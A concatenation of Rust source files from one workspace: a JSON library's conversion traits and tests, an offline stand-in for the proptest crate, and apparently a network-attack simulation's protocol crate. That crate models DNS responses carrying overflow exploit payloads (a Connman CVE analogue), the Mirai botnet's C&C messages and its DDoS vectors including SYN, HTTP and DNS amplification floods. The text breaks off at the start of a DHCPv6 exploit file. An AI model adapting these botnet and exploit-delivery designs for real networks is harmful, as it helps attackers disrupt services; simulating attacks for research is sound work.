        text.parse::<f64>()
            .map(Json::F64)
            .map_err(|_| self.err("invalid number"))
    }
}

/// Conversion of a Rust value into a [`Json`] tree.
pub trait ToJson {
    /// Builds the JSON representation.
    fn to_json(&self) -> Json;
}

impl<T: ToJson + ?Sized> ToJson for &T {
    fn to_json(&self) -> Json {
        (**self).to_json()
    }
}

/// Conversion of a [`Json`] tree back into a Rust value.
pub trait FromJson: Sized {
    /// Rebuilds the value.
    ///
    /// # Errors
    ///
    /// Returns [`JsonError`] when the tree has the wrong shape.
    fn from_json(value: &Json) -> Result<Self, JsonError>;
}

macro_rules! impl_tofrom_uint {
    ($($t:ty),*) => {$(
        impl ToJson for $t {
            fn to_json(&self) -> Json { Json::U64(*self as u64) }
        }
        impl FromJson for $t {
            fn from_json(value: &Json) -> Result<Self, JsonError> {
                value
                    .as_u64()
                    .and_then(|v| <$t>::try_from(v).ok())
                    .ok_or_else(|| JsonError::conversion(concat!("expected ", stringify!($t))))
            }
        }
    )*};
}

impl_tofrom_uint!(u8, u16, u32, u64, usize);

impl ToJson for f64 {
    fn to_json(&self) -> Json {
        Json::F64(*self)
    }
}

impl FromJson for f64 {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        value.as_f64().ok_or_else(|| JsonError::conversion("expected f64"))
    }
}

impl ToJson for bool {
    fn to_json(&self) -> Json {
        Json::Bool(*self)
    }
}

impl FromJson for bool {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        value.as_bool().ok_or_else(|| JsonError::conversion("expected bool"))
    }
}

impl ToJson for String {
    fn to_json(&self) -> Json {
        Json::Str(self.clone())
    }
}

impl FromJson for String {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        value
            .as_str()
            .map(str::to_string)
            .ok_or_else(|| JsonError::conversion("expected string"))
    }
}

impl ToJson for &str {
    fn to_json(&self) -> Json {
        Json::Str((*self).to_string())
    }
}

impl<T: ToJson> ToJson for [T] {
    fn to_json(&self) -> Json {
        Json::Arr(self.iter().map(ToJson::to_json).collect())
    }
}

impl<T: ToJson> ToJson for Vec<T> {
    fn to_json(&self) -> Json {
        self.as_slice().to_json()
    }
}

impl<T: FromJson> FromJson for Vec<T> {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        value
            .as_array()
            .ok_or_else(|| JsonError::conversion("expected array"))?
            .iter()
            .map(T::from_json)
            .collect()
    }
}

impl<T: ToJson> ToJson for Option<T> {
    fn to_json(&self) -> Json {
        match self {
            None => Json::Null,
            Some(v) => v.to_json(),
        }
    }
}

impl<T: FromJson> FromJson for Option<T> {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        if value.is_null() {
            Ok(None)
        } else {
            T::from_json(value).map(Some)
        }
    }
}

impl ToJson for Json {
    fn to_json(&self) -> Json {
        self.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_scalars() {
        for doc in ["null", "true", "false", "0", "42", "-7", "3.5", "\"hi\""] {
            let v = Json::parse(doc).expect(doc);
            assert_eq!(v.to_string_compact(), doc, "doc {doc}");
        }
    }

    #[test]
    fn u64_precision_is_preserved() {
        let big = u64::MAX;
        let doc = big.to_string();
        let v = Json::parse(&doc).expect("parses");
        assert_eq!(v.as_u64(), Some(big));
        assert_eq!(v.to_string_compact(), doc);
    }

    #[test]
    fn object_order_is_preserved() {
        let v = Json::obj([("z", Json::U64(1)), ("a", Json::U64(2))]);
        assert_eq!(v.to_string_compact(), "{\"z\":1,\"a\":2}");
        let back = Json::parse(&v.to_string_compact()).expect("parses");
        assert_eq!(back, v);
    }

    #[test]
    fn pretty_output_is_stable() {
        let v = Json::obj([
            ("name", Json::Str("x".into())),
            ("items", Json::Arr(vec![Json::U64(1), Json::U64(2)])),
            ("empty", Json::Arr(vec![])),
        ]);
        let pretty = v.to_string_pretty();
        assert_eq!(
            pretty,
            "{\n  \"name\": \"x\",\n  \"items\": [\n    1,\n    2\n  ],\n  \"empty\": []\n}"
        );
        assert_eq!(Json::parse(&pretty).expect("parses"), v);
    }

    #[test]
    fn string_escapes_roundtrip() {
        let s = "line\nquote\"back\\slash\ttab\u{1}";
        let v = Json::Str(s.to_string());
        let encoded = v.to_string_compact();
        assert_eq!(Json::parse(&encoded).expect("parses"), v);
    }

    #[test]
    fn unicode_escape_parses() {
        let v = Json::parse("\"\\u00e9\"").expect("parses");
        assert_eq!(v.as_str(), Some("é"));
    }

    #[test]
    fn multibyte_runs_interleaved_with_escapes_roundtrip() {
        // Exercises the run-scan string path: plain ASCII, multi-byte
        // scalars, and escapes alternating within one string.
        let s = "héllo\n→ wörld\t\"çafé\" 🦀 end";
        let encoded = Json::Str(s.to_string()).to_string_compact();
        assert_eq!(Json::parse(&encoded).expect("parses").as_str(), Some(s));
    }

    #[test]
    fn floats_keep_float_identity() {
        let v = Json::parse("2500.0").expect("parses");
        assert!(matches!(v, Json::F64(_)));
        assert_eq!(v.to_string_compact(), "2500.0");
    }

    #[test]
    fn errors_carry_offsets() {
        let err = Json::parse("{\"a\": }").expect_err("must fail");
        assert!(err.offset > 0);
        assert!(err.to_string().contains("expected a value"));
    }

    #[test]
    fn trailing_garbage_rejected() {
        assert!(Json::parse("1 2").is_err());
        assert!(Json::parse("[1,]").is_err());
    }

    #[test]
    fn tofrom_traits_roundtrip() {
        let v: Vec<u64> = vec![1, 2, 3];
        let json = v.to_json();
        assert_eq!(Vec::<u64>::from_json(&json).expect("back"), v);
        let opt: Option<f64> = Some(1.5);
        assert_eq!(Option::<f64>::from_json(&opt.to_json()).expect("back"), opt);
        let none: Option<f64> = None;
        assert_eq!(Option::<f64>::from_json(&none.to_json()).expect("back"), none);
    }
}
