//! Value-generation strategies.

use rand::rngs::SmallRng;
use rand::Rng;
use std::marker::PhantomData;

/// A recipe for producing random values of an associated type.
pub trait Strategy {
    /// The type of value this strategy produces.
    type Value;

    /// Draws one value.
    fn generate(&self, rng: &mut SmallRng) -> Self::Value;
}

/// Types with a canonical "any value" strategy (`any::<T>()`).
pub trait Arbitrary: Sized {
    /// Draws an arbitrary value of `Self`.
    fn arbitrary(rng: &mut SmallRng) -> Self;
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut SmallRng) -> Self {
                // Truncation keeps all bit patterns reachable for every width.
                rng.gen::<u64>() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut SmallRng) -> Self {
        rng.gen::<bool>()
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut SmallRng) -> Self {
        rng.gen::<f64>()
    }
}

/// The strategy returned by `any::<T>()`.
#[derive(Debug, Clone, Copy)]
pub struct AnyStrategy<T>(PhantomData<T>);

impl<T> AnyStrategy<T> {
    pub(crate) fn new() -> Self {
        AnyStrategy(PhantomData)
    }
}

impl<T: Arbitrary> Strategy for AnyStrategy<T> {
    type Value = T;

    fn generate(&self, rng: &mut SmallRng) -> T {
        T::arbitrary(rng)
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut SmallRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut SmallRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f64);

/// String patterns: a character-class regex subset `"[class]{m,n}"`.
///
/// The class supports literal characters, `a-z` style ranges, and `\`
/// escapes; `{m,n}` selects a uniformly random length in `[m, n]`. A bare
/// pattern with no class/repetition generates the literal string itself.
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut SmallRng) -> String {
        let (chars, lo, hi) = parse_class_pattern(self)
            .unwrap_or_else(|| (self.chars().collect(), 1, 1));
        if chars.is_empty() {
            return String::new();
        }
        let len = rng.gen_range(lo..=hi);
        if parse_class_pattern(self).is_none() {
            // Literal pattern: emit it verbatim.
            return (*self).to_string();
        }
        (0..len)
            .map(|_| chars[rng.gen_range(0..chars.len())])
            .collect()
    }
}

/// Parses `[class]{m,n}`; returns `(alphabet, m, n)` or `None` if the
/// pattern is not of that shape.
fn parse_class_pattern(pat: &str) -> Option<(Vec<char>, usize, usize)> {
    let rest = pat.strip_prefix('[')?;
    let close = find_unescaped(rest, ']')?;
    let class: Vec<char> = rest[..close].chars().collect();
    let reps = rest[close + 1..].strip_prefix('{')?.strip_suffix('}')?;
    let (lo, hi) = match reps.split_once(',') {
        Some((a, b)) => (a.trim().parse().ok()?, b.trim().parse().ok()?),
        None => {
            let n = reps.trim().parse().ok()?;
            (n, n)
        }
    };
    let mut alphabet = Vec::new();
    let mut i = 0;
    while i < class.len() {
        let c = class[i];
        if c == '\\' && i + 1 < class.len() {
            alphabet.push(class[i + 1]);
            i += 2;
        } else if i + 2 < class.len() && class[i + 1] == '-' {
            let (a, b) = (c, class[i + 2]);
            if a <= b {
                for code in a as u32..=b as u32 {
                    if let Some(ch) = char::from_u32(code) {
                        alphabet.push(ch);
                    }
                }
            }
            i += 3;
        } else {
            alphabet.push(c);
            i += 1;
        }
    }
    Some((alphabet, lo, hi))
}

fn find_unescaped(s: &str, needle: char) -> Option<usize> {
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    let mut byte = 0;
    while i < chars.len() {
        if chars[i] == '\\' {
            byte += chars[i].len_utf8() + chars.get(i + 1).map_or(0, |c| c.len_utf8());
            i += 2;
            continue;
        }
        if chars[i] == needle {
            return Some(byte);
        }
        byte += chars[i].len_utf8();
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn rng() -> SmallRng {
        SmallRng::seed_from_u64(1)
    }

    #[test]
    fn class_pattern_parses_ranges_and_escapes() {
        let (alpha, lo, hi) = parse_class_pattern("[a-c,\\]]{1,3}").expect("parses");
        assert!(alpha.contains(&'a') && alpha.contains(&'c'));
        assert!(alpha.contains(&',') && alpha.contains(&']'));
        assert_eq!((lo, hi), (1, 3));
    }

    #[test]
    fn class_pattern_space_to_tilde() {
        let (alpha, lo, hi) = parse_class_pattern("[ -~]{1,48}").expect("parses");
        assert_eq!(alpha.len(), 95); // printable ASCII
        assert_eq!((lo, hi), (1, 48));
    }

    #[test]
    fn non_class_pattern_is_literal() {
        assert!(parse_class_pattern("hello").is_none());
        let s = "hello".generate(&mut rng());
        assert_eq!(s, "hello");
    }

    #[test]
    fn generated_strings_respect_class_and_length() {
        let mut r = rng();
        for _ in 0..200 {
            let s = "[a-z ./:|-]{1,64}".generate(&mut r);
            assert!((1..=64).contains(&s.len()));
            assert!(s
                .chars()
                .all(|c| c.is_ascii_lowercase() || " ./:|-".contains(c)));
        }
    }

    #[test]
    fn exact_repetition_count() {
        let (_, lo, hi) = parse_class_pattern("[x]{5}").expect("parses");
        assert_eq!((lo, hi), (5, 5));
    }
}
