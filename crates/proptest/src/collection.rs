//! Collection strategies.

use crate::strategy::Strategy;
use rand::rngs::SmallRng;
use rand::Rng;

/// A range of collection sizes.
#[derive(Debug, Clone, Copy)]
pub struct SizeRange {
    lo: usize,
    hi_inclusive: usize,
}

impl From<core::ops::Range<usize>> for SizeRange {
    fn from(r: core::ops::Range<usize>) -> Self {
        assert!(r.start < r.end, "empty size range");
        SizeRange { lo: r.start, hi_inclusive: r.end - 1 }
    }
}

impl From<core::ops::RangeInclusive<usize>> for SizeRange {
    fn from(r: core::ops::RangeInclusive<usize>) -> Self {
        assert!(r.start() <= r.end(), "empty size range");
        SizeRange { lo: *r.start(), hi_inclusive: *r.end() }
    }
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> Self {
        SizeRange { lo: n, hi_inclusive: n }
    }
}

/// Strategy producing `Vec`s of values drawn from an element strategy.
#[derive(Debug, Clone)]
pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

/// Returns a strategy producing vectors whose length falls in `size` and
/// whose elements are drawn from `element`.
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy { element, size: size.into() }
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn generate(&self, rng: &mut SmallRng) -> Vec<S::Value> {
        let len = rng.gen_range(self.size.lo..=self.size.hi_inclusive);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::any;
    use rand::SeedableRng;

    #[test]
    fn vec_lengths_cover_the_range() {
        let mut rng = SmallRng::seed_from_u64(2);
        let strat = vec(any::<u8>(), 0..5);
        let mut seen = std::collections::HashSet::new();
        for _ in 0..200 {
            let v = strat.generate(&mut rng);
            assert!(v.len() < 5);
            seen.insert(v.len());
        }
        assert!(seen.len() >= 4, "lengths seen: {seen:?}");
    }

    #[test]
    fn nested_vec_strategies_compose() {
        let mut rng = SmallRng::seed_from_u64(3);
        let strat = vec(vec(any::<u8>(), 1..=2), 2..=2);
        let v = strat.generate(&mut rng);
        assert_eq!(v.len(), 2);
        assert!(v.iter().all(|inner| (1..=2).contains(&inner.len())));
    }
}
