//! In-tree, offline stand-in for the `proptest` crate.
//!
//! The build environment for this repository cannot reach crates.io, so the
//! workspace vendors the subset of the proptest API its tests use: the
//! [`proptest!`] macro (including `#![proptest_config(..)]`), [`Strategy`]
//! implementations for integer/float ranges, `any::<T>()`,
//! [`collection::vec`], and character-class string patterns of the form
//! `"[class]{m,n}"`, plus the `prop_assert*` macros.
//!
//! Differences from upstream: failing cases are **not shrunk** — the failure
//! message reports the case number and the per-test RNG seed is derived from
//! the test name, so any failure is reproducible by rerunning the test.

#![warn(missing_docs)]

use rand::rngs::SmallRng;
use rand::SeedableRng;

pub mod collection;
pub mod strategy;

pub use strategy::Strategy;

/// Execution parameters for a [`proptest!`] block.
#[derive(Debug, Clone, Copy)]
pub struct ProptestConfig {
    /// Number of random cases each property runs.
    pub cases: u32,
}

impl ProptestConfig {
    /// A config running `cases` cases per property.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Upstream defaults to 256; 64 keeps the no-shrink in-tree runner
        // fast while still exploring a meaningful sample. Override per block
        // with `#![proptest_config(ProptestConfig::with_cases(n))]` or the
        // PROPTEST_CASES environment variable.
        ProptestConfig { cases: 64 }
    }
}

impl ProptestConfig {
    /// Effective case count: `PROPTEST_CASES` env var wins when set.
    pub fn effective_cases(&self) -> u32 {
        std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(self.cases)
    }
}

/// Deterministic per-test RNG, keyed by the test's name.
pub fn test_rng(name: &str) -> SmallRng {
    // FNV-1a over the test name: stable, dependency-free.
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    SmallRng::seed_from_u64(h)
}

/// Returns a strategy producing any value of type `T`.
pub fn any<T: strategy::Arbitrary>() -> strategy::AnyStrategy<T> {
    strategy::AnyStrategy::new()
}

/// Everything a test file needs: `use proptest::prelude::*;`.
pub mod prelude {
    pub use crate::collection;
    pub use crate::strategy::Strategy;
    pub use crate::{any, prop_assert, prop_assert_eq, proptest, ProptestConfig};
}

/// Asserts a condition inside a property, reporting the failing expression.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        assert!($cond);
    };
    ($cond:expr, $($fmt:tt)*) => {
        assert!($cond, $($fmt)*);
    };
}

/// Asserts equality inside a property.
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => {
        assert_eq!($a, $b);
    };
    ($a:expr, $b:expr, $($fmt:tt)*) => {
        assert_eq!($a, $b, $($fmt)*);
    };
}

/// Declares property tests: each `fn name(arg in strategy, ..) { body }`
/// becomes a `#[test]` that runs `body` over `cases` random draws.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { @cfg ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! { @cfg ($crate::ProptestConfig::default()) $($rest)* }
    };
}

/// Implementation detail of [`proptest!`].
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (@cfg ($cfg:expr) $(
        $(#[$meta:meta])*
        fn $name:ident($($arg:pat_param in $strat:expr),+ $(,)?) $body:block
    )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let config: $crate::ProptestConfig = $cfg;
                let mut rng = $crate::test_rng(concat!(module_path!(), "::", stringify!($name)));
                for case in 0..config.effective_cases() {
                    let _ = case;
                    $(let $arg = $crate::Strategy::generate(&($strat), &mut rng);)+
                    $body
                }
            }
        )*
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #[test]
        fn ranges_respect_bounds(x in 5u64..10, y in 0.0f64..=1.0) {
            prop_assert!((5..10).contains(&x));
            prop_assert!((0.0..=1.0).contains(&y));
        }

        #[test]
        fn vectors_respect_size(v in collection::vec(any::<u8>(), 3..7)) {
            prop_assert!((3..7).contains(&v.len()));
        }

        #[test]
        fn string_patterns_match_class(s in "[a-c]{2,4}") {
            prop_assert!((2..=4).contains(&s.len()), "len {}", s.len());
            prop_assert!(s.chars().all(|c| ('a'..='c').contains(&c)));
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3))]
        #[test]
        fn config_is_honoured(_x in any::<bool>()) {
            // Runs without panicking; case count is covered by the macro.
        }
    }

    #[test]
    fn test_rng_is_deterministic() {
        use rand::RngCore;
        assert_eq!(
            crate::test_rng("abc").next_u64(),
            crate::test_rng("abc").next_u64()
        );
        assert_ne!(
            crate::test_rng("abc").next_u64(),
            crate::test_rng("abd").next_u64()
        );
    }
}
