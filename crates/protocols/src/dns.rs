//! DNS messages.
//!
//! The Connman exploit path (CVE-2017-12865 analogue) delivers its payload
//! inside an oversized DNS response: the vulnerable daemon copies a response
//! record into a fixed-size stack buffer. These types model queries and
//! responses with realistic wire sizes; record data carries the raw exploit
//! bytes.

use std::fmt;

/// Approximate DNS header size on the wire.
pub const DNS_HEADER_BYTES: u32 = 12;

/// One resource record in a response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DnsRecord {
    /// Record owner name.
    pub name: String,
    /// Record type (1 = A, 28 = AAAA, 16 = TXT...).
    pub rtype: u16,
    /// Raw record data. The exploit places its overflow payload here.
    pub data: Vec<u8>,
}

impl DnsRecord {
    /// An IPv4 address record.
    pub fn a(name: impl Into<String>, octets: [u8; 4]) -> Self {
        DnsRecord {
            name: name.into(),
            rtype: 1,
            data: octets.to_vec(),
        }
    }

    /// A record carrying arbitrary bytes (e.g. an exploit payload).
    pub fn raw(name: impl Into<String>, rtype: u16, data: Vec<u8>) -> Self {
        DnsRecord {
            name: name.into(),
            rtype,
            data,
        }
    }

    /// Bytes this record occupies on the wire.
    pub fn wire_size(&self) -> u32 {
        // name + type/class/ttl/rdlength (10) + rdata
        self.name.len() as u32 + 2 + 10 + self.data.len() as u32
    }
}

/// A DNS message: query or response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DnsMessage {
    /// A query for `name`.
    Query {
        /// Transaction id.
        id: u16,
        /// Queried name.
        name: String,
    },
    /// A response to a query.
    Response {
        /// Transaction id (matches the query).
        id: u16,
        /// Queried name.
        name: String,
        /// Answer records.
        answers: Vec<DnsRecord>,
    },
}

impl DnsMessage {
    /// The transaction id.
    pub fn id(&self) -> u16 {
        match self {
            DnsMessage::Query { id, .. } | DnsMessage::Response { id, .. } => *id,
        }
    }

    /// The queried name.
    pub fn name(&self) -> &str {
        match self {
            DnsMessage::Query { name, .. } | DnsMessage::Response { name, .. } => name,
        }
    }

    /// Bytes this message occupies on the wire.
    pub fn wire_size(&self) -> u32 {
        match self {
            DnsMessage::Query { name, .. } => DNS_HEADER_BYTES + name.len() as u32 + 2 + 4,
            DnsMessage::Response { name, answers, .. } => {
                DNS_HEADER_BYTES
                    + name.len() as u32
                    + 2
                    + 4
                    + answers.iter().map(DnsRecord::wire_size).sum::<u32>()
            }
        }
    }
}

impl fmt::Display for DnsMessage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DnsMessage::Query { id, name } => write!(f, "dns query #{id} {name}"),
            DnsMessage::Response { id, name, answers } => {
                write!(f, "dns response #{id} {name} ({} answers)", answers.len())
            }
        }
    }
}

/// The standard DNS port.
pub const DNS_PORT: u16 = 53;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn query_size_tracks_name() {
        let short = DnsMessage::Query { id: 1, name: "a.io".into() };
        let long = DnsMessage::Query { id: 1, name: "very-long-domain-name.example.com".into() };
        assert!(long.wire_size() > short.wire_size());
        assert!(short.wire_size() > DNS_HEADER_BYTES);
    }

    #[test]
    fn response_size_includes_answers() {
        let q = DnsMessage::Query { id: 7, name: "x.io".into() };
        let r = DnsMessage::Response {
            id: 7,
            name: "x.io".into(),
            answers: vec![DnsRecord::a("x.io", [10, 0, 0, 1])],
        };
        assert!(r.wire_size() > q.wire_size());
    }

    #[test]
    fn oversized_record_inflates_wire_size() {
        let payload = vec![0x41u8; 600];
        let r = DnsMessage::Response {
            id: 1,
            name: "t.io".into(),
            answers: vec![DnsRecord::raw("t.io", 16, payload)],
        };
        assert!(r.wire_size() > 600);
    }

    #[test]
    fn accessors() {
        let q = DnsMessage::Query { id: 3, name: "n".into() };
        assert_eq!(q.id(), 3);
        assert_eq!(q.name(), "n");
        assert_eq!(q.to_string(), "dns query #3 n");
    }
}
