//! The bot ↔ C&C wire protocol and attack vector definitions, modelled on
//! the published Mirai source: bots register with an architecture tag, keep
//! the channel alive with ping/pong, and receive attack commands naming a
//! vector, a target, and a duration.

use std::fmt;
use std::net::IpAddr;
use std::time::Duration;

/// The port Mirai's C&C listens on for bots and admin telnet sessions.
pub const CNC_PORT: u16 = 23;
/// The local port Mirai binds to guarantee a single running instance.
pub const SINGLE_INSTANCE_PORT: u16 = 48101;

/// DDoS attack vectors supported by the simulated Mirai.
///
/// # Examples
///
/// ```
/// use protocols::AttackVector;
///
/// let v = AttackVector::parse("udpplain").expect("a Mirai command name");
/// assert_eq!(v.default_payload_bytes(), 512);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackVector {
    /// Volumetric UDP flood with a plain payload (the paper's vector).
    UdpPlain,
    /// Generic UDP flood (randomized payload sizes).
    Udp,
    /// TCP SYN flood.
    Syn,
    /// TCP ACK flood.
    Ack,
    /// GRE-encapsulated IP flood.
    GreIp,
    /// Valve Source Engine query flood (fixed 25-byte query payload).
    Vse,
    /// DNS water-torture flood (randomized-subdomain queries, usually
    /// bounced off resolvers at the victim's authoritative server).
    Dns,
    /// HTTP GET flood: persistent TCP connections to the target with a
    /// request sent per pacing tick (a layer-7 flood over the tcp-lite
    /// stack, not raw forged packets).
    Http,
    /// DNS amplification: bots forge the victim's address as the query
    /// source and aim small queries at an open resolver (the command's
    /// `reflector`), which answers the victim with much larger records.
    DnsAmp,
}

impl AttackVector {
    /// All supported vectors.
    pub const ALL: [AttackVector; 9] = [
        AttackVector::UdpPlain,
        AttackVector::Udp,
        AttackVector::Syn,
        AttackVector::Ack,
        AttackVector::GreIp,
        AttackVector::Vse,
        AttackVector::Dns,
        AttackVector::Http,
        AttackVector::DnsAmp,
    ];

    /// Default payload bytes per packet for this vector (Mirai defaults).
    pub fn default_payload_bytes(self) -> u32 {
        match self {
            AttackVector::UdpPlain => 512,
            AttackVector::Udp => 512,
            AttackVector::Syn => 0,
            AttackVector::Ack => 0,
            AttackVector::GreIp => 512,
            AttackVector::Vse => 25,
            AttackVector::Dns => 38,
            AttackVector::Http => 128,
            AttackVector::DnsAmp => 38,
        }
    }

    /// Extra per-packet header overhead beyond IP+L4 (e.g. GRE).
    pub fn extra_header_bytes(self) -> u32 {
        match self {
            AttackVector::GreIp => 24,
            _ => 0,
        }
    }

    /// Whether the flood runs over the reliable stream transport (HTTP
    /// GET floods) rather than raw forged packets.
    pub fn is_stream(self) -> bool {
        matches!(self, AttackVector::Http)
    }

    /// Whether the command needs a reflector address
    /// ([`AttackCommand::reflector`]) to be meaningful.
    pub fn needs_reflector(self) -> bool {
        matches!(self, AttackVector::DnsAmp)
    }

    /// Parses the Mirai command name (`udpplain`, `udp`, `syn`, `ack`,
    /// `greip`, `vse`, `dns`, `http`, `dnsamp`).
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "udpplain" => Some(AttackVector::UdpPlain),
            "udp" => Some(AttackVector::Udp),
            "syn" => Some(AttackVector::Syn),
            "ack" => Some(AttackVector::Ack),
            "greip" => Some(AttackVector::GreIp),
            "vse" => Some(AttackVector::Vse),
            "dns" => Some(AttackVector::Dns),
            "http" => Some(AttackVector::Http),
            "dnsamp" => Some(AttackVector::DnsAmp),
            _ => None,
        }
    }
}

impl fmt::Display for AttackVector {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AttackVector::UdpPlain => "udpplain",
            AttackVector::Udp => "udp",
            AttackVector::Syn => "syn",
            AttackVector::Ack => "ack",
            AttackVector::GreIp => "greip",
            AttackVector::Vse => "vse",
            AttackVector::Dns => "dns",
            AttackVector::Http => "http",
            AttackVector::DnsAmp => "dnsamp",
        };
        f.write_str(s)
    }
}

/// An attack order issued by the C&C.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackCommand {
    /// Which flood to run.
    pub vector: AttackVector,
    /// Target address.
    pub target: IpAddr,
    /// Target port.
    pub port: u16,
    /// Attack duration in whole seconds.
    pub duration_secs: u32,
    /// Payload bytes per packet (`None` = vector default).
    pub payload_bytes: Option<u32>,
    /// Open resolver bounced off by reflection vectors
    /// ([`AttackVector::DnsAmp`]); ignored by direct floods.
    pub reflector: Option<IpAddr>,
}

impl AttackCommand {
    /// The attack duration.
    pub fn duration(&self) -> Duration {
        Duration::from_secs(u64::from(self.duration_secs))
    }

    /// Effective payload size per packet.
    pub fn effective_payload_bytes(&self) -> u32 {
        self.payload_bytes
            .unwrap_or_else(|| self.vector.default_payload_bytes())
    }
}

/// Messages between bots and the C&C server.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CncMessage {
    /// Bot → C&C: registration after infection.
    Register {
        /// Bot identifier (derived from its obfuscated process name).
        bot_id: u64,
        /// Architecture tag of the running binary (`x86`, `arm7`, ...).
        arch: String,
        /// Version of the bot binary.
        version: u32,
    },
    /// C&C → bot: registration accepted. Until a bot sees this it cannot
    /// assume the C&C is functional — a TCP connect alone also succeeds
    /// against a half-recovered host whose control plane is still down.
    RegisterAck,
    /// Bot → C&C: keep-alive.
    Ping,
    /// C&C → bot: keep-alive answer.
    Pong,
    /// C&C → bot: run an attack.
    Attack(AttackCommand),
    /// C&C → bot: stop all attacks.
    StopAttack,
}

impl CncMessage {
    /// Approximate bytes on the wire (Mirai's binary protocol is compact).
    pub fn wire_size(&self) -> u32 {
        match self {
            CncMessage::Register { arch, .. } => 16 + arch.len() as u32,
            CncMessage::RegisterAck => 2,
            CncMessage::Ping | CncMessage::Pong => 2,
            CncMessage::Attack(_) => 32,
            CncMessage::StopAttack => 4,
        }
    }
}

/// Marker payload attached to flood packets so sinks and classifiers can
/// label attack traffic without deep inspection (the simulation analogue of
/// Wireshark filtering by pattern).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FloodMarker {
    /// The vector that generated the packet.
    pub vector: AttackVector,
    /// The sending bot.
    pub bot_id: u64,
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    #[test]
    fn vector_roundtrip_through_names() {
        for v in AttackVector::ALL {
            assert_eq!(AttackVector::parse(&v.to_string()), Some(v));
        }
        assert_eq!(AttackVector::parse("teardrop"), None);
    }

    #[test]
    fn vector_traits_classify_new_vectors() {
        assert!(AttackVector::Http.is_stream());
        assert!(!AttackVector::UdpPlain.is_stream());
        assert!(AttackVector::DnsAmp.needs_reflector());
        assert!(!AttackVector::Dns.needs_reflector());
    }

    #[test]
    fn udpplain_default_payload_is_512() {
        assert_eq!(AttackVector::UdpPlain.default_payload_bytes(), 512);
    }

    #[test]
    fn syn_floods_have_empty_payloads() {
        assert_eq!(AttackVector::Syn.default_payload_bytes(), 0);
    }

    #[test]
    fn gre_charges_extra_headers() {
        assert!(AttackVector::GreIp.extra_header_bytes() > 0);
        assert_eq!(AttackVector::UdpPlain.extra_header_bytes(), 0);
    }

    #[test]
    fn command_duration_and_payload() {
        let cmd = AttackCommand {
            vector: AttackVector::UdpPlain,
            target: IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)),
            port: 80,
            duration_secs: 100,
            payload_bytes: None,
            reflector: None,
        };
        assert_eq!(cmd.duration(), Duration::from_secs(100));
        assert_eq!(cmd.effective_payload_bytes(), 512);
        let cmd2 = AttackCommand {
            payload_bytes: Some(64),
            ..cmd
        };
        assert_eq!(cmd2.effective_payload_bytes(), 64);
    }

    #[test]
    fn message_sizes_are_plausible() {
        assert!(CncMessage::Ping.wire_size() < CncMessage::Attack(AttackCommand {
            vector: AttackVector::Udp,
            target: IpAddr::V4(Ipv4Addr::LOCALHOST),
            port: 1,
            duration_secs: 1,
            payload_bytes: None,
            reflector: None,
        })
        .wire_size());
    }
}
