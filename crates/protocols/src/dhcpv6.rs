//! DHCPv6 messages.
//!
//! The Dnsmasq exploit path (CVE-2017-14493 analogue) sends a crafted
